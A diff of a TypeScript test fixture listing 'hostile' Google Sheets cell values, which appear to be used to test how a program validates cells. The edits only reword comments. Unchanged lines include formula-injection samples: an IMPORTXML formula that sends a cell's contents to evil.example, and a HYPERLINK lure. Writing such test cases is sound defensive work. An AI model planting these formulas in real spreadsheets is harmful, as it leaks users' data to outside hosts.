@@ -1,5 +1,4 @@
-// The catalogue of hostile cells, as `values.batchGet` with UNFORMATTED_VALUE returns them, and an independent judgement of what
-// each kind of column may accept: written from the table «Values» of the specification, not from the code that reads cells.
+// The catalogue of hostile cells, as `values.batchGet` with UNFORMATTED_VALUE returns them.
 import type { Cell } from '../../src/rules/kinds.js';
 
 export interface Hostile {
@@ -7,12 +6,12 @@ export interface Hostile {
   readonly cell: Cell;
 }
 
-/** Google's limit of characters in a cell. */
+/** Google's limit of characters per cell. */
 const FULL = 50_000;
 const full = (unit: string): string => unit.repeat(Math.ceil(FULL / unit.length)).slice(0, FULL);
 
 const texts: Readonly<Record<string, string>> = {
-  // Formulas and what other programs take for one.
+  // Formulas, and texts that other programs take for formulas.
   formula: '=1+1',
   'formula that fetches': '=IMPORTXML("https://evil.example/?"&A1,"//x")',
   'formula link': '=HYPERLINK("https://evil.example","нажмите")',
@@ -96,7 +95,7 @@ const texts: Readonly<Record<string, string>> = {
   time: '23:59',
   'time 99': '99:99',
   'day of the year': '15.01',
-  // Errors of formulas, and words.
+  // Error values of formulas, and words.
   '#REF!': '#REF!',
   '#N/A': '#N/A',
   '#VALUE!': '#VALUE!',
@@ -158,5 +157,5 @@ export const HOSTILE: readonly Hostile[] = [
   ...Object.entries(others).map(([name, cell]) => ({ name: `(${name})`, cell })),
 ];
 
-/** Long ones go in runs of their own: there are megabytes of them. */
+/** Long values are tested in separate runs: they amount to megabytes. */
 export const isLong = ({ cell }: Hostile): boolean => typeof cell === 'string' && cell.length > 1_000;
